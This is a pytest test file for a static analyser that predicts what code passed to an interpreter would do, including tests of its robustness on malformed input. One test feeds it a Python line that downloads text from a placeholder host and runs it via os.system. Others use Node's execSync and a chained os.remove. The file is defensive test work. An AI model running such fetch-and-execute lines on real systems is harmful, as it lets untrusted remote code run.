"""What code given to an interpreter would do (`code.yaml`), and that reading it always ends."""

from __future__ import annotations

import importlib
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from rulez_py.analysis.languages import LANGUAGES, find
from rulez_py.analysis.languages.actions import VERBS, parted
from rulez_py.analysis.programs import notation
from rulez_py.analysis.values import DOWNLOAD, LIMIT, Found, Word

CASES: list[dict[str, Any]] = YAML(typ="safe").load((Path(__file__).parent / "code.yaml").read_text("utf-8"))
NAMES = [*sorted(set(LANGUAGES.values())), "unknown_language"]


MODULES = {name: importlib.import_module(f"rulez_py.analysis.languages.{name}") for name in NAMES}
TABLES: dict[str, dict[str, str]] = {name: module.CALLS for name, module in MODULES.items() if hasattr(module, "CALLS")}
PAGE = Path(__file__).parents[2] / "docs" / "programs.md"


def actions(line: str) -> list[str]:
    """The verbs in what a table says of a call."""
    verbs = []
    for action in line.split(";"):
        words = action.split()
        while words:
            verb, arguments = parted(words)
            verbs.append(verb)
            words = arguments[1:] if verb == "made" else []
    return verbs


@pytest.mark.parametrize("language", TABLES)
def test_a_table_of_calls_uses_the_verbs_that_there_are(language: str) -> None:
    assert {
        (call, verb) for call, line in TABLES[language].items() for verb in actions(line) if verb not in VERBS
    } == set()


def test_calls_have_the_verbs_of_programs_and_a_few_of_their_own() -> None:
    assert {verb for verb in VERBS if not notation.is_call(verb)} == set()
    assert VERBS.keys() >= notation.CALL_VERBS


def test_the_page_says_which_verbs_only_calls_have() -> None:
    section = PAGE.read_text("utf-8").partition("## Calls of languages")[2].partition("\n## ")[0]
    rows = [line.split("|")[1] for line in section.splitlines() if line.startswith("| `")]
    said = {parted(verb.split())[0] for row in rows for verb in re.findall(r"`([^`]+)`", row)}
    assert said == notation.CALL_VERBS


def written(word: Word | None) -> str:
    assert word is not None
    return word.glob or (word.text if word.known else "?" + word.text)


def does(found: Found) -> list[str]:
    """A result as the table writes it."""
    lines = []
    for inner in found.inner:
        if inner.words:
            line = "words " + " | ".join(written(word) for word in inner.words)
        elif inner.code is not None:
            line = f"code {inner.language} {written(inner.code)}"
        else:
            line = f"file {inner.language} {written(inner.file)}"
        lines.append(line + (f" as {inner.user}" if inner.user else ""))
    lines += ["+".join(one.access) + (" deep" if one.deep else "") + " " + written(one.path) for one in found.touches]
    lines += [f"host {host}" for host in found.hosts]
    return [*lines, *([f"opaque {found.opaque}"] if found.opaque else [])]


@pytest.mark.parametrize("case", CASES, ids=[f"{case['language']}: {case['code'][:50]}" for case in CASES])
def test_what_code_would_do(case: dict[str, Any]) -> None:
    arguments = [Word(text=text) for text in case.get("arguments", ())]
    assert does(find(case["language"], case["code"], arguments)) == case["does"]


def test_what_is_run_says_that_it_was_downloaded() -> None:
    (inner,) = find("python", "import os, requests; os.system(requests.get('https://h.example/x').text)").inner
    assert inner.code is not None
    assert (inner.code.known, inner.code.data.origins) == (False, (DOWNLOAD,))


def test_more_than_can_be_read_is_said() -> None:
    assert find("python", "a;" * 60_000).opaque == LIMIT


HOSTILE = (
    "(",
    "[",
    "{",
    "f({",
    '"',
    "'",
    "\\",
    "x=x+x;",
    "a.b",
    "a.b;",
    "f'{",
    "`${",
    '"#{',
    "q(",
    "(/[",
    "exec('",
    "<<A ",
)


@pytest.mark.parametrize("language", NAMES)
@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_code_is_read_to_an_end(language: str, piece: str) -> None:
    assert isinstance(find(language, piece * 5_000), Found)


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(NAMES), st.text())
def test_any_text_is_read(language: str, text: str) -> None:
    assert isinstance(find(language, text), Found)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(NAMES), st.sampled_from(CASES), st.integers(0, 300), st.integers(0, 12), st.text(max_size=4))
def test_damaged_code_is_read(language: str, case: dict[str, Any], at: int, size: int, other: str) -> None:
    code = case["code"]
    assert isinstance(find(language, code[:at] + other + code[at + size :], [Word(text="x")]), Found)


@pytest.mark.parametrize("before", ["", "(", "(("])
def test_braces_too_deep_to_be_followed_leave_no_block_open(before: str) -> None:
    deep = before + "{" * 12 + "{}" + "}" * 12 + ")" * len(before)
    (inner,) = find("javascript", f"let a = 'ls'; {deep}; a = 'id'; require('child_process').execSync(a)").inner
    assert inner.code == Word(text="id")


def test_functions_that_are_handed_on_again_and_again_are_followed_up_to_a_bound() -> None:
    names = ", ".join(f"'{at}'" for at in range(100))
    lines = ["import functools, os", f"words = [{names}]", "f = os.remove"]
    lines += ["f = functools.partial(map, f, words)"] * 8 + ["f()"]
    assert find("python", "\n".join(lines)).opaque == LIMIT
